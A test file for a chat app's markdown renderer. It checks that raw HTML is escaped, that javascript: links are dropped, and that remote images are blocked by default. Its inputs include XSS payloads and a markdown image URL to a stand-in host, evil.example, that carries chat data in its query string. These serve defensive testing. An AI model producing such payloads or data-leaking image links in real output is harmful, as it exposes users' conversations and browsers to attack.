import { describe, expect, it } from 'vitest'
import { remoteImageHost, renderMarkdown } from '../markdown.js'

function dom(html) {
  const root = document.createElement('div')
  root.innerHTML = html
  return root
}

describe('renderMarkdown', () => {
  it('shows raw HTML from the model as text, never as elements', () => {
    const html = renderMarkdown('Look: <img src=x onerror="alert(1)"> and <script>alert(2)</script>')
    const root = dom(html)
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('script')).toBeNull()
    expect(root.textContent).toContain('<img src=x onerror="alert(1)">')
    expect(root.textContent).toContain('<script>alert(2)</script>')
    expect(html).not.toMatch(/<img|<script/i)
  })

  it('drops javascript: links but keeps normal ones, opening them in a new tab', () => {
    const root = dom(renderMarkdown('[bad](javascript:alert(1)) and [good](https://example.com)'))
    const links = [...root.querySelectorAll('a')]
    expect(links.some((a) => (a.getAttribute('href') || '').startsWith('javascript:'))).toBe(false)
    const good = links.find((a) => a.getAttribute('href') === 'https://example.com')
    expect(good).toBeTruthy()
    expect(good.getAttribute('target')).toBe('_blank')
    expect(good.getAttribute('rel')).toContain('noopener')
  })

  it('renders markdown structure', () => {
    const root = dom(renderMarkdown('# Title\n\n- **one**\n- `two`'))
    expect(root.querySelector('h1')?.textContent).toBe('Title')
    expect(root.querySelectorAll('li')).toHaveLength(2)
    expect(root.querySelector('strong')?.textContent).toBe('one')
    expect(root.querySelector('code')?.textContent).toBe('two')
  })

  it('highlights fenced code and adds a copy button, keeping the code text exact', () => {
    const code = 'def f(x):\n    return "<b>" + x\n'
    const root = dom(renderMarkdown('```python\n' + code + '```'))
    const block = root.querySelector('.code-block')
    expect(block).not.toBeNull()
    expect(block.querySelector('.code-lang').textContent).toBe('python')
    expect(block.querySelector('button.copy-btn')).not.toBeNull()
    expect(block.querySelector('pre code').textContent).toBe(code)
    expect(block.querySelector('pre code .hljs-keyword')?.textContent).toBe('def')
    expect(block.querySelector('b')).toBeNull()
  })

  it('escapes code in unknown languages and a hostile info string', () => {
    const root = dom(renderMarkdown('```"><img src=x onerror=alert(1)>\n<img src=y>\n```'))
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('pre code').textContent).toBe('<img src=y>\n')
  })

  it('returns an empty string for empty input', () => {
    expect(renderMarkdown('')).toBe('')
    expect(renderMarkdown(null)).toBe('')
  })
})

describe('remote images', () => {
  const leak = '![chart](https://evil.example/p.png?d=the%20secret%20chat)'

  it('are not loaded by default: a link naming the host takes their place', () => {
    const root = dom(renderMarkdown(`Here: ${leak}`))
    expect(root.querySelector('img')).toBeNull()
    const link = root.querySelector('a.remote-image')
    expect(link.getAttribute('href')).toBe('https://evil.example/p.png?d=the%20secret%20chat')
    expect(link.textContent).toContain('chart')
    expect(link.querySelector('.remote-image-host').textContent).toContain('evil.example')
    // Opened on click only, in a new tab that learns nothing about this page.
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toContain('noreferrer')
  })

  it('covers protocol-relative, reference-style and linked images', () => {
    const text = '![a](//evil.example/a.png) ![b][ref] [![c](http://evil.example:8080/c.png)](https://example.com)\n\n[ref]: https://evil.example/b.png'
    const root = dom(renderMarkdown(text))
    expect(root.querySelector('img')).toBeNull()
    const hosts = [...root.querySelectorAll('.remote-image-host')].map((el) => el.textContent)
    expect(hosts).toHaveLength(3)
    expect(hosts.join(' ')).toContain('evil.example:8080')
  })

  it('are shown inline when the server allows them', () => {
    const root = dom(renderMarkdown(leak, { remoteImages: true }))
    expect(root.querySelector('a.remote-image')).toBeNull()
    expect(root.querySelector('img').getAttribute('src')).toBe('https://evil.example/p.png?d=the%20secret%20chat')
    expect(root.querySelector('img').getAttribute('alt')).toBe('chart')
  })

  it("leave the app's own and inline images alone", () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgo='
    const root = dom(renderMarkdown(`![logo](/logo.png) ![dot](${pixel})`))
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['/logo.png', pixel])
    expect(root.querySelector('.remote-image')).toBeNull()
  })

  it('names the host an image URL would contact', () => {
    const base = 'http://127.0.0.1:8000/?session=x'
    expect(remoteImageHost('https://evil.example/p.png', base)).toBe('evil.example')
    expect(remoteImageHost('//cdn.example:444/p.png', base)).toBe('cdn.example:444')
    expect(remoteImageHost('http://127.0.0.1:9999/p.png', base)).toBe('127.0.0.1:9999')
    expect(remoteImageHost('/own.png', base)).toBeNull()
    expect(remoteImageHost('http://127.0.0.1:8000/own.png', base)).toBeNull()
    expect(remoteImageHost('data:image/png;base64,AAAA', base)).toBeNull()
  })

  it('keep a hostile alt text and URL as text', () => {
    const root = dom(renderMarkdown('![<img src=x onerror=alert(1)>"](https://evil.example/"><script>)'))
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('script')).toBeNull()
  })
})
